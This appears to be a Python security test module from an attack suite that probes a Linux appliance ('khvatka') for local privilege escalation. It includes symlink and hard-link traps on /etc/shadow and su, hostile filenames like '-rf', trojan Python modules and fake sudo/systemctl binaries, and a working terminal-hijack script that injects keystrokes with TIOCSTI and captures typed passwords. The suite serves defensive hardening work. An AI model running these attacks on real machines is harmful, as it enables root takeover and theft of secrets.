"""Files: what may be written, what root follows, what the owner's shell takes along, what is read."""

# ruff: noqa: E501  # scripts stand as they are run
from __future__ import annotations

from typing import Final

from tests.deploy.attack.ground import DATA, OWNED, SECRET, Attack, Ground, NotTriedError
from tests.deploy.attack.parcels import PAYLOAD

OWN: Final = (
    DATA,
    "/tmp",
    "/var/tmp",
    "/srv/parcels",
    "/proc",
    "/sys",
    "/dev",
    "/run/lock",
    "/run/screen",
)
WRITABLE: Final = """
find / /run /dev \\( -path /proc -o -path /sys -o -path /srv/parcels -o -path /dev -o -path /tmp \\) -prune -o \\
    ! -type l -writable -print 2>/dev/null
"""


def writable(ground: Ground) -> str:
    """All that the table's user may change on the whole root, without walls; and within them."""
    own = (
        *OWN,
        "/run/dbus/system_bus_socket",
        "/run/systemd/",
        "/run/udev",
        "/var/lib/khvatka/table",
    )
    found = [
        name for name in ground.khvatka(WRITABLE).stdout.splitlines() if not name.startswith(own)
    ]
    sticks = ("/media", "/mnt", "/run/media")
    inside = [
        name
        for name in ground.table_sh(WRITABLE).splitlines()
        if not name.startswith((*own, "/run/dbus")) and name not in sticks
    ]
    return ", ".join(
        [*found[:8], *(f"{name} within the walls" for name in inside[:8] if name not in found)]
    )


def marked(ground: Ground) -> str:
    """Setuid files and capabilities that came with the table."""
    packages = ground.root("cat /var/lib/dpkg/info/*.list").stdout.splitlines()
    now = ground.root("find / -xdev -type f -perm /6000").stdout.splitlines()
    theirs = (
        set(packages)
        | {f"/usr{name}" for name in packages}
        | {name.removeprefix("/usr") for name in packages}
    )
    found = [name for name in now if name not in theirs]
    caps = ground.root("getcap -r / 2>/dev/null").stdout.splitlines()
    return ", ".join([*found, *caps])


LINKS: Final = """
cd /var/lib/khvatka/table
for name in khvatka.sqlite3-wal first-pin.part settings.part evidence crash; do ln -sf {owned} $name; done
ln -s /etc deep; ln -s / root; ln /etc/shadow hard; ln /etc/passwd hard2; ln /usr/bin/su hard3
mkfifo pipe; mkdir -p a/b; ln -s /root a/b/c; touch -- '-rf' '--help' '*' "$(printf 'a\\nb')"
rm -f first-pin; ln -s {owned} first-pin
mv /var/lib/khvatka/table /var/lib/khvatka/table.x && ln -s /etc /var/lib/khvatka/table
rm -rf /var/lib/khvatka/opt; ln -s /etc /var/lib/khvatka/opt
ls -la /var/lib/khvatka
"""
UNDO: Final = (
    f"cd {DATA} && rm -rf deep root hard* pipe a ./-rf ./--help './*' first-pin first-pin.part *-wal"
    " settings.part evidence crash ./a*b"
)


def followed(ground: Ground) -> str:
    """Links in the data folder, while the owner runs all that the guides name."""
    ground.khvatka(LINKS.format(owned=OWNED))
    different = ground.same("root's files")
    log = []
    bundle = next((ground.folder / "bundle").glob("*.tar"))
    (ground.system / "media/theirs.tar").write_bytes(bundle.read_bytes())
    for command in (
        "khvatka service pin --reset",
        "printf '4711\\n4711\\n' | khvatka service pin --set",
        "khvatka matches; khvatka people; khvatka service settings set sound.quiet_hours 22:30-8:00",
        "khvatka service export /tmp",
        f"{ground.update} status; {ground.update} key; {ground.update} back",
        f"{ground.update} check /media/theirs.tar; {ground.update} apply /media/theirs.tar",
        "/srv/deploy/install.sh --any-machine",
        "systemctl restart khvatka",
        "khvatka-readonly --disable",
    ):
        done = ground.root(command, limit_s=200)
        log.append(f"{command}: {done.returncode} {(done.stdout + done.stderr).strip()[-80:]}")
    marks, owned = different(), ground.owned()
    followed = ground.root(
        f"find /etc /root /usr /opt -xdev -user khvatka; test -s {OWNED} && echo {OWNED}"
    ).stdout.split()
    ground.khvatka(UNDO)
    ground.root(f"rm -f {OWNED}; systemctl restart khvatka")
    return "; ".join(part for part in (marks, owned, *followed) if part)


def taken_out(ground: Ground) -> str:
    """The same when the table is taken out, with everything."""
    ground.khvatka(LINKS.format(owned=OWNED))
    try:
        said = ground.beside("/srv/deploy/install.sh --any-machine --uninstall --purge")
    finally:
        ground.khvatka(UNDO)
        ground.root(f"rm -f {OWNED}; systemctl restart khvatka")
    missing = [
        name for name in ("etc/passwd", "etc/shadow", "root/secret", "usr/bin/su", "etc/fstab")
        if not (ground.twin / name).exists()
    ]  # fmt: skip
    if "remove the user khvatka" not in said:
        raise NotTriedError(f"it was not taken out: {said[-200:]}")
    return f"gone too: {', '.join(missing)}" if missing else ""


WATCH: Final = """
import os, sys, time
seen, end = set(), time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    for at in ("/tmp", "/var/tmp", "/run/lock", "/dev/shm"):
        seen.update(os.path.join(at, name) for name in os.listdir(at))
print("\\n".join(sorted(seen)))
"""


def temporary(ground: Ground) -> str:
    """Names in folders that anybody may write to, that root uses again and again."""
    ground.khvatka("cat >$HOME/table/watch.py", WATCH)
    runs = []
    before = set(ground.root("find /tmp /var/tmp /run/lock /dev/shm -maxdepth 1").stdout.split())
    for _ in range(2):
        done = ground.root(
            "setpriv --reuid=khvatka --regid=khvatka --init-groups"
            f" python3 {DATA}/watch.py 20 & "
            f"(/srv/deploy/install.sh --any-machine; {ground.update} check /media/theirs.tar;"
            f" {ground.update} apply /media/theirs.tar; {ground.update} status; khvatka matches;"
            " khvatka-readonly --disable) >/dev/null 2>&1; wait"
        )
        runs.append(set(done.stdout.split()) - before)
    again = sorted(runs[0] & runs[1])
    return ", ".join(name for name in again if "systemd-private" not in name)


def shell(ground: Ground) -> str:
    """The owner stands in a folder of the table's, or has variables that somebody has set."""
    evil = f"{DATA}/evil"
    names = "json argparse os subprocess sitecustomize usercustomize tarfile errno deploy tempfile"
    ground.khvatka(
        f"mkdir -p {evil}; cd {evil}; cat >payload.py; for name in {names}; do cp payload.py $name.py; done;"
        " for name in tar ssh-keygen python3 systemctl sh cut cp runuser sudo;"
        f" do printf '#!/bin/sh\\nid >>{OWNED}\\n' >$name; chmod 755 $name; done; cp payload.py __main__.py",
        PAYLOAD + "raise ImportError\n",
    )
    found = []
    ran = (
        f"{ground.update} status; {ground.update} key; {ground.update} check /media/theirs.tar;"
        " khvatka matches; khvatka-readonly --disable; /srv/deploy/install.sh --any-machine --dry-run;"
        " /srv/deploy/install.sh --any-machine"
    )
    for way in (
        f"cd {evil}; {ran}",
        (
            f"cd {evil}; export PYTHONPATH={evil} PYTHONSTARTUP={evil}/json.py HOME={evil}; {ground.update} status;"
            f" {ground.update} check /media/theirs.tar"
        ),
        f"cd {evil}; sudo -u owner sh -c 'cd {evil}; khvatka matches </dev/null'",
        f"cd {evil}; systemctl restart khvatka",
    ):
        ground.root(f"chmod 755 {DATA}; {way}; chmod 750 {DATA}", limit_s=120)
        if owned := ground.owned():
            found.append(f"{way[:70]}…: {owned}")
    ground.khvatka(f"rm -rf {evil}")
    return "; ".join(found)


THIEF: Final = """
import ctypes, fcntl, os, signal, sys, termios, time
libc = ctypes.CDLL(None, use_errno=True)
end, tty = time.monotonic() + 40, None
while tty is None and time.monotonic() < end:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat("/proc/" + pid).st_uid != os.getuid() or int(pid) == os.getpid():
                continue
            if not os.readlink(f"/proc/{pid}/fd/0").startswith("/dev/pts"):
                continue
            if b"play" in open(f"/proc/{pid}/cmdline", "rb").read():
                continue  # the table itself, whose own terminal this is
        except OSError:
            continue
        pidfd = libc.syscall(434, int(pid), 0)
        got = libc.syscall(438, pidfd, 0, 0)
        if got < 0:
            try:
                os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
                print("memory of", pid, flush=True)
                sys.exit()
            except OSError:
                pass
            continue
        tty = got
if tty is None:
    sys.exit()
print("terminal", os.ttyname(tty), flush=True)
time.sleep(1)
for sign in "touch /etc/khvatka-owned\\n":
    try:
        fcntl.ioctl(tty, termios.TIOCSTI, sign.encode())
    except OSError:
        break
signal.alarm(20)
while time.monotonic() < end:
    try:
        if got := os.read(tty, 1000):
            print("read", got, flush=True)
    except OSError:
        pass
"""
OWNER: Final = """
import os, pty, select, sys, time
pid, at = pty.fork()
if pid == 0:
    os.execvp("sh", ["sh", "-i"])
def hear(seconds):
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        if select.select([at], [], [], left)[0]:
            try:
                os.read(at, 4096)
            except OSError:
                return
hear(1)
os.write(at, b"khvatka service pin --set\\n")
hear(4)
os.write(at, b"4711\\n"); hear(1)
os.write(at, b"4711\\n"); hear(4)
for n in range(10):
    os.write(at, b": the-owners-password\\n"); hear(0.5)
hear(2)
"""


def terminal(ground: Ground) -> str:
    """Code at the table waits for the owner's `khvatka …`, takes hold of it and of its terminal."""
    ground.khvatka("cat >$HOME/table/thief.py", THIEF)
    ground.root("cat >/srv/parcels/owner.py", OWNER)
    walled = (
        "import subprocess\n"
        f"subprocess.Popen(['python3', '{DATA}/thief.py'], stdout=open('{DATA}/thief.said', 'w'),"
        " stderr=subprocess.STDOUT)"
    )
    found = []
    for where in ("without walls", "within the walls"):
        inside = where == "within the walls"
        if inside:
            ground.table(walled)
        thief = f"setpriv --reuid=khvatka --regid=khvatka --init-groups python3 {DATA}/thief.py >{DATA}/thief.said 2>&1 &"
        ground.root(
            f"touch {DATA}/thief.said; chown khvatka {DATA}/thief.said; {'' if inside else thief}"
            " sleep 1; python3 /srv/parcels/owner.py; wait; sleep 3",
            limit_s=90,
        )
        said = ground.root(f"cat {DATA}/thief.said; rm {DATA}/thief.said").stdout
        if ground.root(f"test -e {OWNED} && rm {OWNED}").returncode == 0:
            found.append(f"{where} it typed a command into root's shell")
        if "password" in said:
            found.append(f"{where} it read what root typed afterwards")
        held = [line for line in said.splitlines() if line.startswith(("terminal", "memory"))]
        found += [f"{where} it held the {line}" for line in held]
    return "; ".join(found)


def secrets(ground: Ground) -> str:
    """What is root's and the owner's alone to read."""
    ground.root(
        "mkdir -p /home/owner/.config/khvatka && echo secret-of-the-root >/home/owner/.config/khvatka/bundle-key"
        " && chown -R owner: /home/owner/.config && chmod 600 /home/owner/.config/khvatka/bundle-key"
    )
    look = f"grep -rls {SECRET} /etc /root /home /var /opt /run /usr/local 2>/dev/null"
    return ", ".join([*ground.khvatka(look).stdout.split(), *ground.table_sh(look).split()])


ATTACKS = [
    Attack(
        22,
        "every file and folder of the root, written without walls and within",
        "root's programs",
        writable,
    ),
    Attack(23, "setuid files and capabilities that came with the table", "root", marked),
    Attack(
        24,
        "links, hard links, FIFOs in the data, while the owner runs 9 commands",
        "root's files",
        followed,
    ),
    Attack(24, "the same at install.sh --uninstall --purge", "root's files gone", taken_out),
    Attack(
        25, "names of root's temporary files, known beforehand", "a file through a link", temporary
    ),
    Attack(
        26,
        "the owner's shell stands in the table's folder, with variables set",
        "code as root",
        shell,
    ),
    Attack(
        27,
        "the owner's terminal, while `khvatka service pin --set` runs there",
        "root's shell",
        terminal,
    ),
    Attack(28, "shadow, root's files, the owner's signing key", "secrets", secrets),
]
